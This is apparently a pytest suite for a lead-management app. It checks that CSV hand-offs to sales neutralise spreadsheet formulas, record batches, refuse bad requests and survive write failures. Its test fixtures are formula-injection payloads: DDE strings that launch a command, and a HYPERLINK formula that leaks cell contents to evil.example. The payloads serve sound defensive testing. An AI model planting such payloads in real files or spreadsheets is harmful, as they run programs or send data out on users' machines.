"""Hand-off to sales: the exported files read back with Python's csv module (a formula
payload in every text field), the recorded batch, the lifecycle, refusals. On SQLite and
PostgreSQL."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import stat
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import select

from teleprospect.core.csv_export import FORMULA_TRIGGERS
from teleprospect.core.domain import CampaignChannel, Disposition, HistoryKind
from teleprospect.core.handoff import ExportFormat
from teleprospect.core.lifecycle import LeadStatus
from teleprospect.core.permissions import PermissionDenied
from teleprospect.services.nurture.tracks import seed_default_tracks
from teleprospect.services.scoring.scores import rescore_lead
from teleprospect.services.team.handoff import (
    AlreadyExported,
    ExportError,
    ExportRequest,
    NothingToExport,
    export_handoff,
    handoff_batches,
    handoff_items,
    lead_story,
    preview_export,
)
from teleprospect.store.database import Database
from teleprospect.store.models import (
    Call,
    Campaign,
    HandoffBatch,
    Lead,
    LeadAnswer,
    LeadHistory,
    NurtureEnrollment,
    NurtureTrack,
    User,
)
from tests.services.team_fixtures import NOW, Team, add_lead, make_team

# One payload per text field: each would run as a formula in a spreadsheet.
PAYLOADS = {
    "first_name": "=cmd|' /C calc'!A0",
    "last_name": "+SUM(1+1)*cmd|' /C calc'!A0",
    "company": "-2+3+cmd|' /C calc'!A0",
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "industry": "\t=1+1",
    "lead_source": "\r=1+1",
    "email": "=x@evil.example",
    "phone_raw": '=HYPERLINK("http://evil.example","call")',
    "country": "-1",
}
CAMPAIGN = '=HYPERLINK("http://evil.example?leak="&A1,"Spring webinar")'
NOTES = "-1+1 said budget is approved, call Tue"
OWNER = "@Sam Carter"


def ready_lead(db: Database, team: Team, **fields: object) -> int:
    """A lead Sam qualified: calls, answers and the sales-ready history row."""
    lead_id = add_lead(
        db, fields.pop("first_name", "Ada"), owner_id=team.sam,
        campaign_id=fields.pop("campaign_id", team.campaign),
        status=LeadStatus.SALES_READY, title=fields.pop("title", "VP Finance"),
        company_size=fields.pop("company_size", 250), **fields,
    )  # fmt: skip
    with db.write() as s:
        calls = [
            Call(lead_id=lead_id, user_id=team.sam, started_at=NOW - timedelta(days=9),
                 disposition=Disposition.NO_ANSWER),
            Call(lead_id=lead_id, user_id=team.sam, started_at=NOW - timedelta(days=2),
                 disposition=Disposition.CONNECTED, notes=NOTES),
            # After the lead was made ready: not a touch "before ready".
            Call(lead_id=lead_id, user_id=team.julie, started_at=NOW - timedelta(hours=1),
                 disposition=Disposition.CONNECTED, notes=""),
        ]  # fmt: skip
        s.add_all(calls)
        s.flush()
        s.add_all(
            [
                LeadAnswer(lead_id=lead_id, question_id="budget", value=True,
                           call_id=calls[1].id, answered_at=NOW - timedelta(days=2)),
                LeadAnswer(lead_id=lead_id, question_id="budget_amount", value=50000,
                           call_id=calls[1].id, answered_at=NOW - timedelta(days=2)),
                LeadAnswer(lead_id=lead_id, question_id="authority", value="decision_maker",
                           call_id=calls[1].id, answered_at=NOW - timedelta(days=2)),
                LeadAnswer(lead_id=lead_id, question_id="mystery", value="=2*3",
                           answered_at=NOW - timedelta(days=2)),
            ]
        )  # fmt: skip
        s.add(
            LeadHistory(
                lead_id=lead_id, user_id=team.sam, at=NOW - timedelta(days=2),
                kind=HistoryKind.STATUS, from_value="working", to_value="sales_ready",
                reason="=readiness rule met",
            )
        )  # fmt: skip
        # The answers were saved with the call, which scores the lead.
        lead = s.get(Lead, lead_id)
        assert lead is not None
        rescore_lead(s, lead, now=NOW - timedelta(days=2))
    return lead_id


@pytest.fixture
def team(db: Database) -> Team:
    return make_team(db)


@pytest.fixture
def exports(tmp_path: Path) -> Path:
    """A folder of its own (the SQLite test database lives in tmp_path)."""
    folder = tmp_path / "exports"
    folder.mkdir()
    return folder


def read_back(path: Path) -> tuple[bytes, list[dict[str, str]], list[list[str]]]:
    raw = path.read_bytes()
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    records = list(csv.DictReader(io.StringIO(text, newline="")))
    return raw, records, rows


def test_export_reads_back_with_every_formula_neutralised(
    db: Database, team: Team, exports: Path
) -> None:
    with db.write() as s:
        campaign = s.get(Campaign, team.campaign)
        sam = s.get(User, team.sam)
        assert campaign is not None and sam is not None
        campaign.name, campaign.channel = CAMPAIGN, CampaignChannel.WEBINAR
        sam.name = OWNER
    evil = ready_lead(db, team, **PAYLOADS)
    plain = ready_lead(
        db, team, first_name="Björn", last_name="O'Neil, Jr.", company='Acme "Big" Ltd',
        email="bjorn@acme.example", phone_raw="+1 212-555-0100", phone_e164="+12125550100",
        phone_valid=True,
    )  # fmt: skip

    for fmt in ExportFormat:
        out = exports / f"{fmt.value}.csv"
        request = ExportRequest(
            out, fmt, lead_ids=(evil, plain), again=fmt is not ExportFormat.SALESFORCE
        )
        result = export_handoff(db, request, team.boss, now=NOW)
        raw, records, rows = read_back(out)
        assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM"
        assert raw.count(b"\r\n") >= 3 and result.sha256 == hashlib.sha256(raw).hexdigest()
        assert len(records) == 2
        for row in rows:
            for cell in row:
                assert cell == "+12125550100" or not cell.startswith(FORMULA_TRIGGERS), (fmt, cell)
        first, second = records
        name = {"salesforce": "First Name", "hubspot": "First Name", "full": "First Name"}[fmt]
        assert first[name] == "'" + PAYLOADS["first_name"]
        assert first["Last Name"] == "'" + PAYLOADS["last_name"]
        assert second["Last Name"] == "O'Neil, Jr."  # quoted for its comma, read back whole
        company = "Company Name" if fmt is ExportFormat.HUBSPOT else "Company"
        assert first[company] == "'" + PAYLOADS["company"]
        assert second[company] == 'Acme "Big" Ltd'
        assert first["Campaign"] == "'" + CAMPAIGN
        assert first["Last Call Notes"] == "'" + NOTES
        assert first["Qualified By"] == "'" + OWNER
        # A valid number in E.164 is written bare: a CRM import would keep an apostrophe in
        # it, and "+" and digits alone cannot run. Anything else in the column is prefixed.
        phone = "Phone Number" if fmt is ExportFormat.HUBSPOT else "Phone"
        assert second[phone] == "+12125550100"
        assert first[phone] == "'" + PAYLOADS["phone_raw"]
        reference = "Reference" if fmt is ExportFormat.FULL else "Teleprospect Reference"
        assert first[reference] == f"TP-{result.batch_id:04d}-{evil:06d}"
        assert first["Budget"] == "Yes; 50,000" and first["Authority"] == "Decision maker"
        assert first["Touches Before Ready"] == "2"
        assert first[
            "Qualified Date" if fmt is not ExportFormat.FULL else "Qualified At (UTC)"
        ] in (
            (NOW - timedelta(days=2)).strftime("%Y-%m-%d"),
            (NOW - timedelta(days=2)).strftime("%Y-%m-%d %H:%M"),
        )
    sf = read_back(exports / "salesforce.csv")[1][0]
    assert sf["Rating"] in ("Hot", "Warm", "Cold") and sf["Lead Status"] == "Working - Contacted"
    assert sf["No. of Employees"] == "250"
    description = sf["Description"]
    assert description.startswith("Qualified by @Sam Carter on ")
    assert "Budget: Yes; Budget: 50,000" in description and "Last call notes (" in description
    assert "mystery: =2*3" in description  # inside the text, harmless: only the start counts
    hub = read_back(exports / "hubspot.csv")[1][0]
    assert hub["Lifecycle Stage"] == "Sales Qualified Lead"
    full = read_back(exports / "full.csv")[1]
    assert full[0]["Lead ID"] == str(evil) and full[0]["Country"] == "'-1"
    assert full[0]["Why Ready"] == "'=readiness rule met"
    assert full[0]["Other Answers"] == "mystery: =2*3"
    assert full[1]["Phone"] == "+12125550100"
    assert full[1]["Phone As Entered"] == "'+1 212-555-0100", "as entered: still prefixed"


def test_export_records_the_batch_and_hands_the_leads_off(
    db: Database, team: Team, exports: Path
) -> None:
    first = ready_lead(db, team, first_name="Ann")
    second = ready_lead(db, team, first_name="Ben", campaign_id=team.other_campaign)
    working = add_lead(db, "Working", owner_id=team.sam)
    dnc = ready_lead(db, team, first_name="Dnc", do_not_call=True)
    out = exports / "to-sales.csv"
    preview = preview_export(db, ExportRequest(out), team.boss)
    assert [row[0] for row in preview.leads] == [first, second]
    assert (preview.already_exported, preview.do_not_call) == (0, 1)
    assert not out.exists(), "a preview writes nothing"

    result = export_handoff(db, ExportRequest(out), team.boss, now=NOW)
    assert result.leads == 2 and result.path == out.resolve()
    assert [lead_id for lead_id, _ in result.references] == [first, second]
    assert list(exports.iterdir()) == [out], "no temporary file is left behind"
    with db.read() as s:
        batch = s.get(HandoffBatch, result.batch_id)
        assert batch is not None
        assert (batch.user_id, batch.format, batch.leads, batch.created_at) == (
            team.boss, ExportFormat.SALESFORCE, 2, NOW,
        )  # fmt: skip
        assert batch.file_path == str(out.resolve())
        assert batch.file_sha256 == hashlib.sha256(out.read_bytes()).hexdigest()
        assert batch.selection == "all sales-ready leads"
        statuses = dict(s.execute(select(Lead.id, Lead.status)).all())
        assert statuses[first] is statuses[second] is LeadStatus.HANDED_OFF
        assert statuses[working] is LeadStatus.WORKING
        assert statuses[dnc] is LeadStatus.SALES_READY, "do-not-call leads never go to sales"
        history = s.scalars(
            select(LeadHistory).where(
                LeadHistory.lead_id == first, LeadHistory.to_value == "handed_off"
            )
        ).one()
        assert (history.user_id, history.at, history.from_value) == (team.boss, NOW, "sales_ready")
        assert history.reason == (
            f"Handed to sales in batch #{result.batch_id} (Salesforce lead CSV, to-sales.csv)."
        )
    [info] = handoff_batches(db)
    assert (info.id, info.by_name, info.leads, info.waiting, info.accepted) == (
        result.batch_id, "Maria Boss", 2, 2, 0,
    )  # fmt: skip
    items = handoff_items(db, result.batch_id)
    assert [(i.lead_id, i.status, i.verdict) for i in items] == [
        (first, LeadStatus.HANDED_OFF, None), (second, LeadStatus.HANDED_OFF, None),
    ]  # fmt: skip


def test_the_same_leads_are_not_exported_twice_unless_asked(
    db: Database, team: Team, exports: Path
) -> None:
    lead = ready_lead(db, team)
    first = export_handoff(db, ExportRequest(exports / "a.csv"), team.boss, now=NOW)
    with pytest.raises(NothingToExport) as nothing:
        export_handoff(db, ExportRequest(exports / "b.csv"), team.boss, now=NOW)
    assert str(nothing.value) == (
        "No sales-ready lead matches: nothing was exported. 1 matching lead was already "
        "handed to sales (export again only if you mean to)."
    )
    with pytest.raises(AlreadyExported, match=f"Lead {lead} was already handed to sales"):
        export_handoff(db, ExportRequest(exports / "b.csv", lead_ids=(lead,)), team.boss, now=NOW)
    assert not (exports / "b.csv").exists()
    again = export_handoff(
        db, ExportRequest(exports / "b.csv", ExportFormat.FULL, lead_ids=(lead,), again=True),
        team.boss, now=NOW + timedelta(hours=1),
    )  # fmt: skip
    assert again.batch_id != first.batch_id and again.leads == 1
    with db.read() as s:
        assert s.get(Lead, lead).status is LeadStatus.HANDED_OFF  # type: ignore[union-attr]
        assert s.get(HandoffBatch, again.batch_id).again  # type: ignore[union-attr]
        handed = s.scalars(select(LeadHistory).where(LeadHistory.to_value == "handed_off")).all()
        assert len(handed) == 1, "an export again changes no status"


def test_refusals_write_nothing(db: Database, team: Team, exports: Path) -> None:
    lead = ready_lead(db, team)
    working = add_lead(db, "Working", owner_id=team.sam)
    out = exports / "out.csv"
    with pytest.raises(PermissionDenied, match="Only a team lead can export leads to sales"):
        export_handoff(db, ExportRequest(out), team.sam, now=NOW)
    with pytest.raises(PermissionDenied):
        preview_export(db, ExportRequest(out), team.julie)
    with pytest.raises(ExportError, match=f"lead {working} is Working"):
        export_handoff(db, ExportRequest(out, lead_ids=(lead, working)), team.boss, now=NOW)
    with pytest.raises(ExportError, match="There is no lead 999"):
        export_handoff(db, ExportRequest(out, lead_ids=(999,)), team.boss, now=NOW)
    with pytest.raises(ExportError, match="does not exist"):
        export_handoff(db, ExportRequest(exports / "nowhere" / "x.csv"), team.boss, now=NOW)
    with pytest.raises(ExportError, match="is a folder"):
        export_handoff(db, ExportRequest(exports), team.boss, now=NOW)
    with pytest.raises(NothingToExport, match="No sales-ready lead matches"):
        export_handoff(db, ExportRequest(out, campaign_id=team.other_campaign), team.boss, now=NOW)
    assert list(exports.iterdir()) == []
    with db.read() as s:
        assert s.scalar(select(HandoffBatch.id)) is None
        assert s.get(Lead, lead).status is LeadStatus.SALES_READY  # type: ignore[union-attr]


def test_a_failed_export_keeps_the_previous_file_and_records_nothing(
    db: Database, team: Team, exports: Path, monkeypatch
) -> None:
    ready_lead(db, team)
    out = exports / "out.csv"
    out.write_text("the previous export\n", encoding="utf-8")
    import teleprospect.services.csv_files as csv_files

    def fail(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(csv_files.os, "replace", fail)
    with pytest.raises(ExportError, match="No space left"):
        export_handoff(db, ExportRequest(out, overwrite=True), team.boss, now=NOW)
    assert out.read_text(encoding="utf-8") == "the previous export\n"
    assert [p.name for p in exports.iterdir()] == ["out.csv"]
    with db.read() as s:
        assert s.scalar(select(HandoffBatch.id)) is None


def handed_off(db: Database, lead: int) -> bool:
    with db.read() as s:
        return s.get(Lead, lead).status is LeadStatus.HANDED_OFF  # type: ignore[union-attr]


def batches(db: Database) -> list[int]:
    with db.read() as s:
        return list(s.scalars(select(HandoffBatch.id)))


@pytest.mark.skipif(not Path("/dev/full").is_char_device(), reason="no /dev/full here")
def test_a_device_is_refused_untouched_and_nothing_is_handed_off(db: Database, team: Team) -> None:
    lead = ready_lead(db, team)
    device = Path("/dev/full")
    before = device.stat()
    for overwrite in (False, True):
        with pytest.raises(ExportError, match="not a regular file"):
            export_handoff(db, ExportRequest(device, overwrite=overwrite), team.boss, now=NOW)
    after = device.stat()
    assert device.is_char_device() and (after.st_ino, after.st_rdev) == (
        before.st_ino, before.st_rdev,
    )  # fmt: skip
    assert not handed_off(db, lead) and batches(db) == []
    assert not [p for p in Path("/dev").iterdir() if p.name.startswith(".full-")]


def test_a_file_that_cannot_be_written_hands_nothing_off(
    db: Database, team: Team, exports: Path, monkeypatch
) -> None:
    lead = ready_lead(db, team)
    import teleprospect.services.csv_files as csv_files

    def disk_full(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(csv_files.os, "fsync", disk_full)
    with pytest.raises(ExportError, match="No space left on device; nothing was exported"):
        export_handoff(db, ExportRequest(exports / "out.csv"), team.boss, now=NOW)
    assert list(exports.iterdir()) == []
    assert not handed_off(db, lead) and batches(db) == []


def test_an_existing_file_is_replaced_only_when_asked(
    db: Database, team: Team, exports: Path
) -> None:
    lead = ready_lead(db, team)
    out = exports / "out.csv"
    out.write_text("last week's export\n", encoding="utf-8")
    with pytest.raises(ExportError, match="already exists; nothing was exported"):
        export_handoff(db, ExportRequest(out), team.boss, now=NOW)
    assert out.read_text(encoding="utf-8") == "last week's export\n"
    assert not handed_off(db, lead) and batches(db) == []

    result = export_handoff(db, ExportRequest(out, overwrite=True), team.boss, now=NOW)
    assert result.leads == 1 and handed_off(db, lead)
    assert hashlib.sha256(out.read_bytes()).hexdigest() == result.sha256
    assert [p.name for p in exports.iterdir()] == ["out.csv"]


@pytest.mark.skipif(not hasattr(os, "umask"), reason="no umask here")
@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o077, 0o600)])
def test_the_file_mode_follows_the_umask(
    db: Database, team: Team, exports: Path, umask: int, mode: int
) -> None:
    ready_lead(db, team)
    previous = os.umask(umask)
    try:
        result = export_handoff(db, ExportRequest(exports / "out.csv"), team.boss, now=NOW)
    finally:
        os.umask(previous)
    assert stat.S_IMODE(result.path.stat().st_mode) == mode


def test_the_story_counts_nurture_touches_before_ready(db: Database, team: Team) -> None:
    lead = ready_lead(db, team)
    with db.write() as s:
        seed_default_tracks(s, now=NOW)
        track = s.scalars(select(NurtureTrack).order_by(NurtureTrack.id)).first()
        assert track is not None
        s.add(
            NurtureEnrollment(
                lead_id=lead, track_id=track.id, enrolled_at=NOW - timedelta(days=60),
                starts_at=NOW - timedelta(days=60), ended_at=NOW - timedelta(days=3),
            )
        )  # fmt: skip
    from teleprospect.core.nurture import TouchKind, Track, step_due_at

    definition = Track.from_dict(track.definition)
    expected = sum(
        1
        for i, step in enumerate(definition.steps)
        if step.kind is not TouchKind.CALL
        and step_due_at(definition, i, NOW - timedelta(days=60)) <= NOW - timedelta(days=3)
    )
    story = lead_story(db, lead, now=NOW)
    assert story.calls_before_ready == 2
    assert story.touches_before_ready == 2 + expected
    assert story.qualified_by == "Sam Carter" and story.qualified_at == NOW - timedelta(days=2)
    assert story.last_call_notes == NOTES
    assert (
        sum(int(line.split()[0].replace("\u2212", "-")) for line in story.breakdown) == story.score
    )
